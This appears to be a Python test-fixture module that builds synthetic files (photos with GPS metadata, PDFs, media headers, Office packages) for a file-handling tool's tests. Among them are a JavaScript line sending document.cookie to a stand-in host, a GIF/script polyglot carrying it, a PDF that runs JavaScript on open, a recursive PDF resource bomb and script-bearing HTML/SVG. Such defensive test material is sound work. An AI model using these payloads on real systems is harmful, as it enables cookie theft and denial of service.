"""Real bytes of every sort, made here: nothing is downloaded and nobody is in the pictures."""

from __future__ import annotations

import io
import zipfile
from functools import cache

import typst
from PIL import Image, ImageDraw, PngImagePlugin

PLACE = "Synthetic camera"
TELLTALE = "SyntheticPlaceName"
SCRIPT = b"=1;fetch('//elsewhere.example/'+document.cookie);"


def picture(width: int = 64, height: int = 48, mode: str = "RGB") -> Image.Image:
    """Return a picture whose left half is dark, so that its turning shows."""
    image = Image.new(mode, (width, height), "white")
    ImageDraw.Draw(image).rectangle((0, 0, width // 2, height), fill="black")
    return image


@cache
def jpeg(width: int = 64, height: int = 48) -> bytes:
    """Return a photograph that says where, when and with what it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x010F] = PLACE
    exif[0x0132] = "2026:11:22 09:30:00"
    exif[0x0112] = 6
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (35.0, 5.0, 4.0), "W", (106.0, 39.0, 3.0)
    out = io.BytesIO()
    picture(width, height).save(out, "JPEG", exif=exif, comment=TELLTALE.encode())
    return out.getvalue()


def noisy_jpeg(size: int) -> bytes:
    """Return a photograph of at least this many bytes."""
    out = io.BytesIO()
    side = int((size / 1.2) ** 0.5) + 64
    Image.effect_noise((side, side), 90).save(out, "JPEG", quality=100)
    assert out.tell() >= size
    return out.getvalue()


@cache
def png() -> bytes:
    """Return a picture with a text chunk and transparency."""
    told = PngImagePlugin.PngInfo()
    told.add_text("Location", TELLTALE)
    out = io.BytesIO()
    picture(mode="RGBA").save(out, "PNG", pnginfo=told)
    return out.getvalue()


def encoded(form: str, **options: object) -> bytes:
    """Return the picture in another format of Pillow."""
    out = io.BytesIO()
    picture().save(out, form, **options)
    return out.getvalue()


@cache
def fax(pages: int = 3) -> bytes:
    """Return a TIFF of several pages, as fax machines send them."""
    out = io.BytesIO()
    first, *rest = [picture(mode="1") for _ in range(pages)]
    first.save(out, "TIFF", save_all=True, append_images=rest)
    return out.getvalue()


@cache
def pdf(pages: int = 2) -> bytes:
    """Return a paper with metadata."""
    source = f'#set document(title: "{TELLTALE}")\n' + "\n#pagebreak()\n".join(
        f"= Page {n}" for n in range(1, pages + 1)
    )
    return bytes(typst.compile(source.encode()))


def pdf_with_script() -> bytes:
    """Return a paper that wants to run a script when it is opened, and that carries a file."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</EmbeddedFiles<</Names[(a.txt) 5 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>",
        b"<</Type/Filespec/F(a.txt)/EF<</F 6 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 5>>stream\nhello\nendstream",
    ]
    return _paper(objects)


def endless_pdf() -> bytes:
    """Return a short paper whose one page draws a form that draws the next one thirty times, eight deep."""
    deep, wide = 8, 30
    forms = []
    for level in range(deep):
        content = b"/F Do " * wide if level < deep - 1 else b"0 0 100 100 re f " * wide
        head = b"<</Type/XObject/Subtype/Form/BBox[0 0 100 100]/Resources<</XObject<</F %d 0 R>>>>/Length %d>>"
        forms.append(head % (level + 6, len(content)) + b"stream\n" + content + b"\nendstream")
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>",
        b"<</Length 5>>stream\n/F Do\nendstream",
        *forms,
    ]
    return _paper(objects)


def _paper(objects: list[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size + b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return bytes(out)


MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08free" + bytes(range(256)) * 8
MOV = b"\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00qt  " + bytes(600)
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(600)
M4A = b"\x00\x00\x00\x18ftypM4A \x00\x00\x00\x00M4A mp42" + bytes(600)
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(32)
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00\xff\xfb\x90\x00" + bytes(600)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)
HTML = b"<!doctype html>\n<html><body><script>alert(1)</script></body></html>\n"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SHELL = b"#!/bin/sh\necho hello\n"
LETTER = b"From: desk@example.invalid\r\nTo: city@example.invalid\r\nSubject: fax\r\n\r\n<html>hello</html>\r\n"
TEXT = "Señal de prueba: two officers asked for the office.\n".encode()
GIF_SCRIPT = b"GIF89a/*\x00\x00\x00\x00\x00*/" + SCRIPT


def package(*names: str) -> bytes:
    """Return a ZIP package with these names inside."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return out.getvalue()


DOCX = package("[Content_Types].xml", "_rels/.rels", "word/document.xml")
XLSX = package("docProps/app.xml", "xl/workbook.xml", "[Content_Types].xml")
MACRO = package("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")
ZIP = package("photograph.jpg", "notes.txt")
